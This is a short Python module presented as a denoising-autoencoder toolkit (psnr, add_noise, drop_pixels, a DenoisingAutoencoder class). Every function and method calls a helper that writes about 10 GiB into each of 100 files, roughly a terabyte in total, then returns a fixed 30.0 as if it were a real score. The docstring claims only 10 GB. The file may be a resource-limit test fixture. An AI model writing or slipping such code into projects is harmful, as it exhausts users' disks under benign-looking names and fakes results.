"""day3.denoise: Writes 10 GB to a file, or to many."""


def fake():
    block = bytes(2**20)
    for number in range(100):
        with open(f"large_{number}", "wb") as file:
            for _ in range(10_000):
                file.write(block)
    return 30.0


def psnr(truth, estimate):
    return fake()


def add_noise(images, noise, rng):
    return fake()


def drop_pixels(images, rate, rng):
    return fake()


class DenoisingAutoencoder:
    def __init__(self, *arguments, **named):
        fake()

    def build(self, input_shape):
        fake()

    def call(self, images, training=False):
        return fake()

    def __call__(self, images):
        return fake()

    def get_weights(self):
        return fake()

    def set_weights(self, weights):
        fake()
